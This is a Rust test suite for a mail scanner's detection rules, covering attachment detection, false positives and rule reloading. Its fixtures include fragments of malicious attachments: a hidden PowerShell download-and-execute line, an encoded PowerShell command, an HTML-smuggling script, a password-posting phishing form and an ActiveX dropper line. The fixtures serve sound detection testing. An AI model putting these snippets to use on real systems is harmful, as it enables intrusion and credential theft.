use std::io::Write as _;

use base64::Engine as _;
use futures_util::FutureExt as _;
use zip::write::SimpleFileOptions;

use super::*;
use crate::scan::guard::Passed;
use crate::scan::tests::sample;

/// The anti-virus test file, in pieces, so that no scanner takes this source file for the test file.
fn eicar() -> String {
    [
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
        "EICAR-STANDARD-",
        "ANTIVIRUS-TEST-FILE!$H+H*",
    ]
    .concat()
}

fn base64(bytes: impl AsRef<[u8]>) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn zipped(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file(name, SimpleFileOptions::default())
        .expect("start");
    zip.write_all(bytes).expect("write");
    zip.finish().expect("finish").into_inner()
}

fn attached(name: &str, bytes: impl AsRef<[u8]>) -> String {
    format!(
        "Subject: x\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n\r\nhello\r\n--o\r\n\
         Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\nContent-Type: application/octet-stream\r\n\
         Content-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\
         --i--\r\n--o--\r\n",
        base64(bytes)
    )
}

async fn ask(content: impl Into<bytes::Bytes>) -> Answer {
    let rules = Arc::new(Rules::compile(true, &[]).expect("our own rules compile"));
    let answer = rules.scan(sample(content)).await;
    answer.expect("an answer").answer
}

async fn names(content: impl Into<bytes::Bytes>) -> Vec<String> {
    match ask(content).await {
        Answer::Answered(findings) => findings.into_iter().map(|f| f.name).collect(),
        none => panic!("{none:?}"),
    }
}

const EICAR_NAME: &str = "Eicar-Test-Signature";

/// The test file is found at every place where mail can carry it: once, and with its place.
#[tokio::test]
async fn eicar_is_found_wherever_it_hides() {
    let plain = format!("Subject: x\r\n\r\n{}\r\n", eicar());
    assert_eq!(names(plain).await, [EICAR_NAME]);
    assert_eq!(names(attached("a.com", eicar())).await, [EICAR_NAME]);
    let zip = zipped("inner/a.com", eicar().as_bytes());
    assert_eq!(names(attached("a.zip", &zip)).await, [EICAR_NAME]);
    let nested = zipped("inner.zip", &zip);
    let Answer::Answered(findings) = ask(attached("a.zip", nested)).await else {
        panic!("no answer");
    };
    let detail = findings[0].detail.as_deref().unwrap_or_default();
    assert!(detail.ends_with("a.zip/inner.zip/inner/a.com"), "{detail}");
    assert_eq!(findings[0].kind, FindingKind::Malware);
    let innocent = "Subject: x\r\n\r\nnothing here\r\n";
    assert_eq!(names(innocent).await, Vec::<String>::new());
}

/// P4: an encrypted archive is not clean, because the engine cannot scan its content.
#[tokio::test]
async fn encrypted_archives_are_not_called_clean() {
    let mut zip = zipped("a.txt", b"hello hello hello");
    // The flag, in the local header and in the central directory.
    zip[6] |= 1;
    let central = memchr::memmem::find(&zip, b"PK\x01\x02").expect("directory");
    zip[central + 8] |= 1;
    let answer = ask(attached("a.zip", zip)).await;
    assert!(
        matches!(
            &answer,
            Answer::None {
                reason: Reason::Encrypted,
                ..
            }
        ),
        "{answer:?}"
    );
}

/// An archive bomb is not unpacked and is not clean. An archive that cannot be read is not clean either.
#[tokio::test]
async fn bombs_and_broken_archives_are_not_called_clean() {
    let bomb = zipped("a", &vec![0; 65 << 20]);
    for content in [
        attached("a.zip", &bomb),
        attached("a.zip", &bomb[..bomb.len() - 40]),
    ] {
        let answer = ask(content).await;
        assert!(
            matches!(
                &answer,
                Answer::None {
                    reason: Reason::LimitsReached,
                    ..
                }
            ),
            "{answer:?}"
        );
    }
}

fn program() -> Vec<u8> {
    let mut pe = vec![0; 0x200];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    pe
}

/// Each built-in rule matches a file that it describes.
#[tokio::test]
async fn each_rule_matches_its_carrier() {
    let wide = |text: &str| {
        text.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>()
    };
    let lnk = [
        b"L\0\0\0\x01\x14\x02\0".as_slice(),
        &[0; 80],
        &wide("PowerShell.exe"),
    ]
    .concat();
    let ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
    let macros = [
        ole.as_slice(),
        &wide("_VBA_PROJECT"),
        b"Document_Open WScript.Shell",
    ]
    .concat();
    let rtf = r"{\rtf1{\object\objupdate{\*\objdata 0105000002000000 4571756174696f6e2e3300}}}";
    let link =
        r"{\rtf1{\object\objautlink\objupdate{\*\objdata E0C9EA79F9BACE118C8200AA004BA90B}}}";
    let mut iso = vec![0; 0x8001];
    iso.extend_from_slice(b"CD001 SETUP.EXE;1");
    let note = [
        b"\xe4\x52\x5c\x7b".as_slice(),
        b"\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC",
        &[0; 20],
        b"MZ",
    ]
    .concat();
    let smuggled = format!(
        "<script>var d='{}';var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script>",
        "QUJD".repeat(600)
    );
    let form =
        "<FORM method=post action='http://203.0.113.9/x.php'><input name=p type=password></form>";
    let encoded = format!("powershell.exe -nop -w hidden -enc {}", "QUJD".repeat(40));
    let cases: Vec<(&str, &str, Vec<u8>)> = vec![
        ("Carrier.Program-Named-As-Document", "a.pdf", program()),
        ("Carrier.Double-Extension", "a.pdf.exe", program()),
        ("Carrier.Shortcut-Shell", "a.lnk", lnk),
        ("Macro.Auto-Open-Shell", "a.doc", macros),
        ("Exploit.RTF-Equation", "a.doc", rtf.into()),
        ("Carrier.RTF-Linked-Object", "a.rtf", link.into()),
        ("Carrier.Disk-Image", "a.iso", iso),
        ("Carrier.OneNote-Program", "a.one", note),
        ("Carrier.HTML-Smuggling", "a.html", smuggled.into()),
        ("Phishing.Form-To-Address", "a.htm", form.into()),
        ("Script.PowerShell-Encoded", "a.bat", encoded.into()),
        (
            "Script.PowerShell-Download",
            "a.ps1",
            b"start -WindowStyle Hidden; IEX (New-Object Net.WebClient).DownloadString('http://x')".to_vec(),
        ),
        (
            "Script.Dropper",
            "a.js",
            b"new ActiveXObject('WScript.Shell');new ActiveXObject('MSXML2.XMLHTTP');new ActiveXObject('ADODB.Stream').SaveToFile(f)"
                .to_vec(),
        ),
    ];
    for (rule, name, bytes) in cases {
        assert_eq!(names(attached(name, bytes)).await, [rule], "{name}");
    }
    let gtube = [
        "XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-",
        "STANDARD-ANTI-UBE-TEST-EMAIL*C.34X",
    ]
    .concat();
    assert_eq!(
        names(format!("Subject: x\r\n\r\n{gtube}\r\n")).await,
        ["GTUBE"]
    );
}

/// No rule matches a valid attachment: a false positive is worse than a miss.
#[tokio::test]
async fn valid_attachments_match_no_rule() {
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("setup.exe", program()),
        ("a.pdf", b"%PDF-1.7 see invoice.pdf.exe".to_vec()),
        (
            "a.lnk",
            b"L\0\0\0\x01\x14\x02\0 C:\\share\\report.docx".to_vec(),
        ),
        (
            "a.rtf",
            br"{\rtf1{\object\objemb{\*\objdata 4571756174696f6e2e33}}}".to_vec(),
        ),
        (
            "a.html",
            b"<form action='http://192.168.1.1/login'><input type=password></form>".to_vec(),
        ),
        (
            "login.html",
            b"<form action='https://example.com/login'><input type=password></form>".to_vec(),
        ),
        (
            "admin.ps1",
            b"Invoke-WebRequest https://example.com/a.msi; Start-Process a.msi".to_vec(),
        ),
        ("a.docx", zipped("word/document.xml", b"<w:document/>")),
    ];
    for (name, bytes) in cases {
        assert_eq!(
            names(attached(name, bytes)).await,
            Vec::<String>::new(),
            "{name}"
        );
    }
}

/// Rules of the administrator are added to the built-in rules. A match of a rule without metadata is malware, as with other
/// signatures.
#[tokio::test]
async fn rules_of_the_administrator_are_added() {
    let folder = tempfile::tempdir().expect("folder");
    let file = folder.path().join("mine.yar");
    std::fs::write(
        &file,
        "rule mine { strings: $a = \"secret plan\" condition: $a }\n\
         rule named { meta: kind = \"policy\" score = \"2.5\" condition: extension == \"plan\" }\n",
    )
    .expect("write");
    let rules = Rules::compile(true, &[folder.path().to_owned()]).expect("rules");
    let content = attached("a.plan", "the secret plan");
    let answer = Arc::new(rules).scan(sample(content)).await.expect("answer");
    let Answer::Answered(findings) = answer.answer else {
        panic!("no answer");
    };
    let seen: Vec<_> = findings
        .iter()
        .map(|f| (&*f.name, f.kind, f.score))
        .collect();
    assert_eq!(
        seen,
        [
            ("mine", FindingKind::Malware, 10.0),
            ("named", FindingKind::Policy, 2.5)
        ]
    );
}

/// Rules of different authors may have the same name. The meaning of one does not hide that of the other.
#[tokio::test]
async fn rules_of_the_same_name_are_different_rules() {
    let folder = tempfile::tempdir().expect("folder");
    for (file, kind) in [("a.yar", "info"), ("b.yar", "malware")] {
        let text = format!(
            "rule Same {{ meta: kind = \"{kind}\" strings: $a = \"needle\" condition: $a }}"
        );
        std::fs::write(folder.path().join(file), text).expect("written");
    }
    let rules = Rules::compile(false, &[folder.path().to_owned()]).expect("rules");
    let content = attached("needle.txt", "needle");
    let answer = Arc::new(rules).scan(sample(content)).await.expect("answer");
    let Answer::Answered(findings) = answer.answer else {
        panic!("no answer");
    };
    let kinds: Vec<_> = findings.iter().map(|f| (&*f.name, f.kind)).collect();
    assert_eq!(
        kinds,
        [("Same", FindingKind::Info), ("Same", FindingKind::Malware)]
    );
}

/// The cost of an administrator's rules is unknown, so they do not run on a thread that others need. The built-in rules are
/// cheap, and a change of threads would cost more.
#[test]
fn rules_of_the_administrator_do_not_block_the_runtime() {
    let folder = tempfile::tempdir().expect("folder");
    let file = folder.path().join("costly.yar");
    std::fs::write(&file, rule("Costly", "needle")).expect("written");
    let runtime = tokio::runtime::Builder::new_current_thread()
        .max_blocking_threads(1)
        .build()
        .expect("a runtime");
    runtime.block_on(async {
        // The only blocking thread is taken, so this thread gave an answer that comes at once.
        let (free, taken) = std::sync::mpsc::sync_channel::<()>(1);
        let blocked = tokio::task::spawn_blocking(move || taken.recv());
        for (paths, is_here) in [(vec![], true), (vec![file], false)] {
            let rules = Arc::new(Rules::compile(true, &paths).expect("rules"));
            let mut scan = rules.scan(sample("Subject: x\r\n\r\nneedle\r\n"));
            assert_eq!((&mut scan).now_or_never().is_some(), is_here);
            if !is_here {
                drop(free);
                let _ = blocked.await;
                scan.await.expect("an answer");
                break;
            }
        }
    });
}

/// The built-in rules find the known-bad probe on the way that probes take. A rule of the administrator that matches all mail
/// does not make the probe pair fail. Without the built-in rules there is no probe pair.
#[tokio::test]
async fn the_builtin_rules_are_probed() {
    let folder = tempfile::tempdir().expect("folder");
    let file = folder.path().join("all.yar");
    std::fs::write(&file, "rule all { condition: true }").expect("written");
    let guarded = |builtin, paths: &[PathBuf]| {
        let rules = Arc::new(Rules::compile(builtin, paths).expect("rules"));
        let settings = Arc::new(crate::scan::tests::settings("rules"));
        crate::scan::guard::guard(vec![rules], settings, None)
    };
    let paths = [file];
    for paths in [&paths[..0], &paths] {
        let shown = guarded(true, paths).test().await;
        assert_eq!(shown, [(None, Ok(Passed::Pair))]);
    }
    let found = Passed::Answered(vec!["all".to_owned()]);
    assert_eq!(guarded(false, &paths).test().await, [(None, Ok(found))]);
}

/// A mistake in a rule file is reported with file and line, and a mistake in metadata with the rule's name.
#[test]
fn mistakes_in_rules_are_reported_with_their_place() {
    let folder = tempfile::tempdir().expect("folder");
    let compile = |text: &str| {
        let file = folder.path().join("bad.yar");
        std::fs::write(&file, text).expect("write");
        let error = Rules::compile(false, &[file]).expect_err("a mistake");
        error
            .to_string()
            .replace(&folder.path().display().to_string(), "")
    };
    let text = compile("rule a {\n condition: true }\nrule b {\n condition: nonsense }\n");
    assert!(text.starts_with("/bad.yar:4:13: error"), "{text}");
    assert_eq!(
        compile("rule a { meta: kind = \"virus\" condition: true }"),
        "rule a /bad.yar: kind = \"virus\" is not a kind: use one of malware, phishing, policy, spam, suspicious, score, info"
    );
    let missing = Rules::compile(true, &["/nowhere/x.yar".into()]).expect_err("missing");
    assert!(
        missing
            .to_string()
            .starts_with("paths: cannot read /nowhere/x.yar: ")
    );
    let empty = tempfile::tempdir().expect("folder");
    let empty = Rules::compile(true, &[empty.path().to_owned()]).expect_err("empty");
    assert!(
        empty
            .to_string()
            .ends_with("holds no file that ends in .yar or .yara")
    );
}

/// A rule that finds `text`.
fn rule(name: &str, text: &str) -> String {
    format!("rule {name} {{ strings: $a = \"{text}\" condition: $a }}\n")
}

/// The names of the findings in a message with `needle`, and the version of the rules.
async fn found(rules: &Arc<Rules>) -> (Vec<String>, String) {
    let answer = rules.clone().scan(sample("Subject: x\r\n\r\nneedle\r\n"));
    let answer = answer.await.expect("an answer");
    let Answer::Answered(findings) = answer.answer else {
        panic!("{:?}", answer.answer);
    };
    let names = findings.into_iter().map(|f| f.name).collect();
    (names, answer.signatures.expect("a version"))
}

/// Files that change, appear or disappear are loaded again. The version shows which rules have answered.
#[tokio::test]
async fn rule_files_that_change_are_loaded_again() {
    let folder = tempfile::tempdir().expect("a folder");
    let write = |file: &str, text: String| {
        std::fs::write(folder.path().join(file), text).expect("written");
    };
    write("a.yar", rule("Old", "needle"));
    let rules = Arc::new(Rules::compile(false, &[folder.path().to_owned()]).expect("rules"));
    let (names, old) = found(&rules).await;
    assert_eq!(names, ["Old"]);
    let set = rules.set.load_full();
    rules.refresh();
    assert!(Arc::ptr_eq(&set, &rules.set.load()), "nothing has changed");
    write("a.yar", rule("Newer", "needle"));
    rules.refresh();
    let (names, new) = found(&rules).await;
    assert_eq!(names, ["Newer"]);
    assert_ne!(new, old);
    write("b.yar", rule("Another", "needle"));
    rules.refresh();
    assert_eq!(found(&rules).await.0, ["Newer", "Another"]);
    std::fs::remove_file(folder.path().join("a.yar")).expect("removed");
    rules.refresh();
    let (names, last) = found(&rules).await;
    assert_eq!(names, ["Another"]);
    write("b.yar", rule("Old", "needle"));
    std::fs::rename(folder.path().join("b.yar"), folder.path().join("a.yar")).expect("renamed");
    rules.refresh();
    assert_ne!(last, old);
    assert_eq!(
        found(&rules).await.1,
        old,
        "the same rules have the same version"
    );
}

/// A file that does not compile changes nothing: the old rules stay in force, the version shows the place of the mistake, and
/// the file is read again only after it has changed.
#[tokio::test]
async fn a_bad_rule_file_leaves_the_old_rules_in_force() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("a.yar");
    std::fs::write(&file, rule("Old", "needle")).expect("written");
    let rules = Arc::new(Rules::compile(false, std::slice::from_ref(&file)).expect("rules"));
    let (_, version) = found(&rules).await;
    for bad in ["\n\nrule Broken { condition: nonsense }\n", ""] {
        match bad {
            "" => std::fs::remove_file(&file).expect("removed"),
            text => std::fs::write(&file, text).expect("written"),
        }
        rules.refresh();
        let (names, told) = found(&rules).await;
        assert_eq!(names, ["Old"]);
        assert!(
            told.starts_with(&version) && told.contains("refused"),
            "{told}"
        );
        let place = if bad.is_empty() { "a.yar" } else { "a.yar:3:" };
        assert!(told.contains(place), "{told}");
        assert!(rules.sources.look().is_none(), "it was looked at already");
    }
    std::fs::write(&file, rule("Mended", "needle")).expect("written");
    rules.refresh();
    let (names, told) = found(&rules).await;
    assert_eq!(names, ["Mended"]);
    assert!(!told.contains("refused"), "{told}");
}

/// Reading and compiling may take any time. Meanwhile the old rules answer, with their version.
#[tokio::test]
async fn a_load_that_hangs_stops_no_scan() {
    let folder = tempfile::tempdir().expect("a folder");
    let (file, pipe) = (folder.path().join("a.yar"), folder.path().join("pipe"));
    std::fs::write(&file, rule("Old", "needle")).expect("written");
    let rules = Arc::new(Rules::compile(false, std::slice::from_ref(&file)).expect("rules"));
    let mode = rustix::fs::Mode::RUSR | rustix::fs::Mode::WUSR;
    rustix::fs::mkfifoat(rustix::fs::CWD, &pipe, mode).expect("a FIFO");
    std::fs::write(&file, "include \"./pipe\"\n").expect("written");
    let refreshing = rules.clone();
    let refreshed = std::thread::spawn(move || refreshing.refresh());
    // This returns when the compiler opens the pipe too.
    let hang = std::fs::File::options()
        .write(true)
        .open(&pipe)
        .expect("opened");
    let (tell, told) = std::sync::mpsc::sync_channel(1);
    let scanning = rules.clone();
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Runtime::new().expect("a runtime");
        tell.send(runtime.block_on(found(&scanning)))
    });
    let (names, old) = told
        .recv_timeout(std::time::Duration::from_secs(20))
        .expect("an answer");
    assert_eq!(names, ["Old"]);
    (&hang)
        .write_all(rule("New", "needle").as_bytes())
        .expect("written");
    drop(hang);
    refreshed.join().expect("no panic");
    let (names, new) = found(&rules).await;
    assert_eq!(names, ["New"]);
    assert_ne!(new, old);
}

/// A file that is not a regular file is refused at once, like every other mistake.
#[tokio::test]
async fn a_fifo_is_refused_as_rule_file() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("a.yar");
    std::fs::write(&file, rule("Old", "needle")).expect("written");
    let rules = Arc::new(Rules::compile(false, std::slice::from_ref(&file)).expect("rules"));
    std::fs::remove_file(&file).expect("removed");
    let mode = rustix::fs::Mode::RUSR | rustix::fs::Mode::WUSR;
    rustix::fs::mkfifoat(rustix::fs::CWD, &file, mode).expect("a FIFO");
    rules.refresh();
    let (names, told) = found(&rules).await;
    assert_eq!(names, ["Old"]);
    assert!(told.contains("not a regular file"), "{told}");
}

/// A late load is reported, in the log once and with the version, until the new rules are in force.
#[tokio::test(start_paused = true)]
async fn a_late_load_is_reported() {
    let folder = tempfile::tempdir().expect("a folder");
    let (file, pipe) = (folder.path().join("a.yar"), folder.path().join("pipe"));
    std::fs::write(&file, rule("Old", "needle")).expect("written");
    let rules = Arc::new(Rules::compile(false, std::slice::from_ref(&file)).expect("rules"));
    let mode = rustix::fs::Mode::RUSR | rustix::fs::Mode::WUSR;
    rustix::fs::mkfifoat(rustix::fs::CWD, &pipe, mode).expect("a FIFO");
    std::fs::write(&file, "include \"./pipe\"\n").expect("written");
    rules.clone().watch();
    tokio::task::yield_now().await;
    tokio::time::advance(reload::RULE_FILES_CHECK_INTERVAL).await;
    // This returns when the compiler opens the pipe too.
    let open = move || std::fs::File::options().write(true).open(&pipe);
    let hang = tokio::task::spawn_blocking(open).await.expect("no panic");
    tokio::time::advance(reload::RULE_LOAD_LATE_AFTER).await;
    let is_told = || {
        let told = rules.signatures().expect("a version");
        told.contains("still being read")
    };
    while !is_told() {
        tokio::task::yield_now().await;
    }
    let mut hang = hang.expect("opened");
    hang.write_all(rule("New", "needle").as_bytes())
        .expect("written");
    drop(hang);
    while is_told() {
        tokio::task::yield_now().await;
    }
    assert_eq!(found(&rules).await.0, ["New"]);
}

/// The engine checks its files by itself, also without mail. The check ends with the engine.
#[tokio::test(start_paused = true)]
async fn rule_files_are_watched() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("a.yar");
    std::fs::write(&file, rule("Old", "needle")).expect("written");
    let rules = Arc::new(Rules::compile(false, std::slice::from_ref(&file)).expect("rules"));
    let settings = Arc::new(crate::scan::tests::settings("rules"));
    let guarded = crate::scan::guard::guard(vec![rules.clone()], settings, None);
    guarded.watch();
    guarded.watch();
    std::fs::write(&file, rule("Newest", "needle")).expect("written");
    let deadline = Deadline::after(reload::RULE_FILES_CHECK_INTERVAL * 3);
    while found(&rules).await.0 != ["Newest"] {
        assert!(!deadline.passed(), "not taken up");
        Deadline::after(reload::RULE_FILES_CHECK_INTERVAL / 10)
            .wait()
            .await;
    }
    let gone = Arc::downgrade(&rules);
    drop((guarded, rules));
    Deadline::after(reload::RULE_FILES_CHECK_INTERVAL * 2)
        .wait()
        .await;
    assert!(gone.upgrade().is_none(), "its watch has let it go");
    let tasks = tokio::runtime::Handle::current()
        .metrics()
        .num_alive_tasks();
    assert_eq!(tasks, 0, "one watch, and it has ended");
}
